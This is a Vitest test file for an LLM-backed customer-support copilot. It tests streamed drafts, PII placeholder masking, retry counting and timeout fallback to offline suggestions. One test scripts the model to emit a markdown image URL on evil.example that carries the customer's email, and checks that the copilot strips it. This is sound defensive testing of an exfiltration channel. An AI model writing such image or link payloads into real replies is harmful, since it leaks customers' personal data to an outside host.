import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createCopilot, createCopilotPorts, type Copilot } from '../../../src-main/core/copilot/index';
import type { LlmSettings } from '../../../src-main/core/copilot/llm';
import { startScriptedLlm, type ScriptedLlm } from '../../fixtures/scripted-llm/server';
import { startCopilotWorkspace, type CopilotWorkspace } from '../../fixtures/copilot-workspace';

// Crystal Minh, one of the three ABCD customers seeded into the demo CRM.
const crystal = { id: '9007199254740993', order: '3348917502', email: 'cminh730@email.com' };

let workspace: CopilotWorkspace;
let llm: ScriptedLlm;
const copilots: Copilot[] = [];

beforeAll(async () => {
  workspace = await startCopilotWorkspace();
  llm = await startScriptedLlm([], { fallback: () => ({ text: 'Noted.' }) });
}, 120_000);
afterAll(async () => {
  for (const copilot of copilots) await copilot.close();
  await workspace?.close();
  await llm?.close();
});

async function open(name: string, settings: Partial<LlmSettings>, onToken?: (conversationId: string, index: number, token: string) => void): Promise<Copilot> {
  const copilot = await createCopilot({
    dataDir: join(workspace.dir, name),
    ports: createCopilotPorts({ db: workspace.db, knowledge: async () => workspace.knowledge }),
    llm: { baseUrl: llm.url, model: 'scripted', timeoutMs: 5000, maxRetries: 0, ...settings },
    ...(onToken ? { onToken } : {}),
  });
  copilots.push(copilot);
  return copilot;
}

describe('streamed drafts', () => {
  it('streams the draft token by token, with placeholders restored only in main', async () => {
    const tokens: { conversationId: string; index: number; token: string }[] = [];
    const copilot = await open('stream', {}, (conversationId, index, token) => tokens.push({ conversationId, index, token }));
    const before = llm.requests.length;
    // The model only ever sees placeholders, so it answers with one; the agent sees the real address.
    llm.push({ text: 'Hi ⟨NAME_1⟩, I can send the return label to ⟨EMAIL_1⟩ today, see [policy-returns].' }, { text: '' });
    const turn = await copilot.handleCustomerMessage('stream-1', `I'm Crystal Minh (${crystal.email}), order ${crystal.order} is too small`);
    const draftRequest = llm.requests.slice(before).find((body) => body.stream === true);
    expect(draftRequest, 'the draft is requested as a stream').toBeDefined();
    expect(JSON.stringify(draftRequest)).not.toContain(crystal.email);
    const mine = tokens.filter((entry) => entry.conversationId === 'stream-1');
    expect(mine.length).toBeGreaterThan(5);
    expect(mine.every((entry) => entry.index === 0)).toBe(true);
    const streamed = mine.map((entry) => entry.token).join('');
    expect(streamed).toContain(crystal.email);
    expect(streamed).not.toMatch(/[[⟨](EMAIL|NAME)_\d+[\]⟩]/);
    const suggestion = turn.suggestions[0];
    expect(suggestion).toMatchObject({ source: 'llm' });
    expect(streamed.trim()).toBe(suggestion?.text);
  }, 60_000);

  it('strips remote images and links the model writes, from the suggestion and from the streamed tokens', async () => {
    const tokens: string[] = [];
    const copilot = await open('exfiltration', {}, (_conversationId, _index, token) => tokens.push(token));
    llm.push({ text: 'Here you go ![status](https://evil.example/pixel.png?d=⟨EMAIL_1⟩) and [track it](https://evil.example/t) now.' }, { text: '' });
    const turn = await copilot.handleCustomerMessage('exfil-1', `Where is order ${crystal.order}? My email is ${crystal.email}`);
    expect(turn.suggestions[0]?.text).not.toMatch(/evil\.example|!\[/);
    expect(turn.suggestions[0]?.text).toContain('track it');
    expect(tokens.join('')).not.toMatch(/evil\.example/);
  }, 60_000);
});

describe('when the LLM fails', () => {
  it('counts retries once across LangChain and the OpenAI client, then falls back to offline suggestions', async () => {
    const copilot = await open('retry', { maxRetries: 1 });
    const before = llm.requests.length;
    llm.push({ status: 500 }, { status: 500 }, { status: 500 }, { status: 500 });
    const turn = await copilot.handleCustomerMessage('retry-1', `Hi, I'm Crystal Minh, I want to return order ${crystal.order}`);
    // Two calls (draft and actions), each tried once and retried once: four requests, not 2 × 2 × 2.
    expect(llm.requests.length - before).toBe(4);
    expect(turn.llmError).toBe('The language model server failed (HTTP 500). Try again later; the copilot keeps suggesting offline meanwhile.');
    expect(turn.suggestions.length).toBeGreaterThan(0);
    expect(turn.suggestions.every((suggestion) => suggestion.source === 'offline')).toBe(true);
    // An offline draft either cites its help-centre article or is a move template (an ask, a confirmation, a close).
    expect(turn.suggestions.every((suggestion) => suggestion.citations.length > 0 || suggestion.move !== undefined)).toBe(true);
    expect(turn.actions.length).toBeGreaterThan(0);
  }, 60_000);

  it('gives up on a slow model at the timeout and still answers offline', async () => {
    const copilot = await open('timeout', { timeoutMs: 1000 });
    llm.push({ text: 'too late', delayMs: 3000 }, { text: 'too late', delayMs: 3000 });
    const started = Date.now();
    const turn = await copilot.handleCustomerMessage('timeout-1', 'How long does a refund take to reach my card?');
    expect(Date.now() - started).toBeLessThan(2900 * 2);
    expect(turn.llmError).toMatch(/^The language model did not answer in time\./);
    expect(turn.suggestions[0]?.source).toBe('offline');
  }, 60_000);
});
